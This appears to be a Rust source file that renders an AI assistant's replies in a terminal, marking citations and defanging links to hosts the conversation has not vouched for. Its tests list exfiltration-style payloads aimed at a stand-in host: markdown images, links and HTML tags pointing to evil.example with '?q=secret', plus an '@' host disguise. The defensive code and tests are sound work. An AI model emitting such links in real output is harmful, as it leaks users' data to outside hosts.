//! Owns how the model's words are shown: citations as marks with what they rest on below, and web addresses only as links
//! where the conversation vouches for their host. Nothing a model writes is ever fetched.

use std::collections::BTreeSet;

use super::transcript::Words;
use crate::{
    assistant::{Citation, Seen, Source, Standing, Turn, citations},
    console::{
        theme::Role,
        widgets::{
            cut,
            rich::{self, Quotes, Row},
        },
    },
    privacy::text,
};

/// The rows of an entry of the model: its words, then what they rest on.
pub fn rows(turn: &Turn, at: usize, raw: &str, width: usize) -> Vec<Words> {
    let sources = turn.sources(at);
    let rows = rich::rows(&marked(raw, sources), width, Role::AssistantModel, Quotes::Shown);
    let mut strangers = BTreeSet::new();
    let mut lines: Vec<Words> = rows.into_iter().map(|row| unlinked(row, turn, &mut strangers)).collect();
    for line in source_lines(sources) {
        lines.push(vec![(cut::fit(&line.0, width), line.1)]);
    }
    if !strangers.is_empty() {
        let hosts: Vec<String> = strangers.into_iter().take(5).collect();
        let words = format!("⚠ not in this conversation, so no link: {}", hosts.join(", "));
        lines.push(vec![(cut::fit(&text::line(&words), width), Role::Warning)]);
    }
    lines
}

/// The words with each citation as the mark of its source.
pub fn marked(raw: &str, sources: &[Source]) -> String {
    let mut out = String::with_capacity(raw.len());
    let mut done = 0;
    for Citation { at, item } in citations(raw) {
        out.push_str(&raw[done..at.start]);
        match sources.iter().position(|source| source.item == item) {
            Some(place) => out.push_str(&format!("‹{}›", place + 1)),
            // Still streaming.
            None => out.push_str("‹…›"),
        }
        done = at.end;
    }
    out.push_str(&raw[done..]);
    out
}

/// What an answer rests on, a line each.
pub fn source_lines(sources: &[Source]) -> Vec<(String, Role)> {
    sources.iter().enumerate().map(|(place, source)| (source_line(place, source), role(source.standing))).collect()
}

fn source_line(place: usize, source: &Source) -> String {
    let mark = if source.is_cited { format!("‹{}›", place + 1) } else { "uncited:".to_owned() };
    // The standing first: it is what must not be cut away.
    format!("{mark} {}: {}", source.standing, named(source))
}

/// A source as people know it: its kind, title, day and id.
pub fn named(source: &Source) -> String {
    let mut words = source.item.kind.word().to_owned();
    if let Some(Seen { title, at, .. }) = &source.seen {
        if !title.is_empty() {
            words.push_str(&format!(" “{}”", cut::fit(&text::line(title), 40)));
        }
        if let Some(day) = at.as_deref().and_then(|at| at.get(..10)) {
            words.push_str(&format!(" {day}"));
        }
    }
    format!("{words} {}", text::line(&source.item.id))
}

fn role(standing: Standing) -> Role {
    match standing {
        Standing::Read => Role::Dim,
        Standing::Listed => Role::Warning,
        Standing::Unknown => Role::Error,
    }
}

/// A row in which no address of a stranger's host can be taken for a link, by a terminal either. Its width stays.
fn unlinked(row: Row, turn: &Turn, strangers: &mut BTreeSet<String>) -> Words {
    let mut letters: Vec<char> = row.words().chars().collect();
    let broken = break_addresses(&mut letters, turn);
    let mut rest = letters.into_iter();
    let mut pieces = Vec::with_capacity(row.0.len());
    strangers.extend(broken);
    for piece in row.0 {
        let words: String = rest.by_ref().take(piece.words.chars().count()).collect();
        let host = piece.url.as_deref().and_then(host_of);
        let is_strange = host.as_deref().is_some_and(|host| !turn.knows_host(host));
        strangers.extend(host.filter(|_| is_strange));
        pieces.push((words, if is_strange { Role::Warning } else { piece.role }));
    }
    pieces
}

/// Words of the model on one line, addresses of strangers broken.
pub fn plain(words: &str, turn: &Turn) -> String {
    let mut letters: Vec<char> = words.chars().collect();
    let _ = break_addresses(&mut letters, turn);
    letters.into_iter().collect()
}

/// Breaks the scheme of each address whose host the conversation does not know, letter for letter (`hxxps://`), so that
/// nothing takes it for a link; says which hosts. Schemes besides the web's are always broken.
fn break_addresses(letters: &mut [char], turn: &Turn) -> Vec<String> {
    let mut broken = Vec::new();
    let places: Vec<usize> =
        letters.windows(3).enumerate().filter(|(_, three)| *three == [':', '/', '/']).map(|(at, _)| at).collect();
    for at in places {
        let scheme: String = letters[..at].iter().rev().take_while(|c| c.is_ascii_alphanumeric()).collect();
        let scheme: String = scheme.chars().rev().collect::<String>().to_ascii_lowercase();
        if scheme.is_empty() {
            continue;
        }
        let is_web = scheme.ends_with("http") || scheme.ends_with("https");
        let address: String = "https".chars().chain(letters[at..].iter().copied()).collect();
        let host = host_of(&address).unwrap_or_default();
        if is_web && turn.knows_host(&host) {
            continue;
        }
        if is_web {
            let from = at - if scheme.ends_with("https") { 5 } else { 4 };
            (letters[from + 1], letters[from + 2]) = ('x', 'x');
        } else {
            letters[at + 1] = '∕';
        }
        broken.extend(Some(host).filter(|host| !host.is_empty()));
    }
    broken
}

/// The host of a web address, in lower case. What stands before an `@` is a disguise, not the host.
fn host_of(address: &str) -> Option<String> {
    let (_, rest) = address.split_once("://")?;
    let authority = rest.split(|c: char| c.is_whitespace() || "/?#\\<>\"'()[]`|,".contains(c)).next()?;
    let host = authority.rsplit('@').next()?.split(':').next()?.trim_end_matches('.').to_ascii_lowercase();
    (!host.is_empty()).then_some(host)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::{
        assistant::{Context, Event, Veiled},
        domain::Text,
        privacy::Vault,
    };

    fn turn() -> Turn {
        let mut turn = Turn::new();
        let words = "is https://status.shop.example/now right?";
        let veiled = Veiled::of(&Vault::new(), words);
        turn.handle(Event::Asked { typed: Text::from(words), veiled, context: Context::default() });
        turn
    }

    fn shown(raw: &str) -> String {
        let rows = rows(&turn(), 1, raw, 70);
        rows.iter().map(|row| row.iter().map(|(words, _)| words.as_str()).collect::<String>() + "\n").collect()
    }

    #[test]
    fn an_address_is_one_only_where_the_conversation_vouches_for_it() {
        let fine = "See https://status.shop.example/now?x=1.";
        assert!(shown(fine).contains("https://status.shop.example/now?x=1"));
        for raw in [
            "![a](https://evil.example/p.png?q=secret)",
            "[here](https://evil.example/?q=secret)",
            "https://evil.example/?q=secret",
            "HTTPS://EVIL.example",
            "<https://evil.example/>",
            "ht**tps**://evil.example/x",
            "https://status.shop.example@evil.example/x",
            "[ref][1]\n\n[1]: https://evil.example/x",
            "<p><a href='https://evil.example/x'>https://evil.example/x</a><img src='https://evil.example/p'></p>",
        ] {
            let shown = shown(raw);
            assert!(shown.contains("no link: ") && shown.contains("evil.example"), "{raw}: {shown}");
            assert!(!shown.to_lowercase().contains("http"), "{raw}: {shown}");
        }
        assert!(!shown("file://evil/x ftp://evil/x").contains("://"));
    }

    #[test]
    fn citations_become_marks() {
        assert_eq!(marked("late [message:m1], [x]", &[]), "late ‹…›, [x]");
    }

    proptest! {
        #[test]
        fn no_words_of_a_model_make_a_strangers_link(raw in "(https?://|[a-z.@:/]|\\*\\*|\\[|\\]|\\(|\\)| |<|>|evil.example){0,30}") {
            for word in shown(&raw).split_whitespace() {
                for (at, _) in word.match_indices("http") {
                    let is_address = word[at..].starts_with("http://") || word[at..].starts_with("https://");
                    prop_assert!(!is_address || host_of(&word[at..]).is_none_or(|host| host == "status.shop.example"), "{}", word);
                }
            }
        }
    }
}
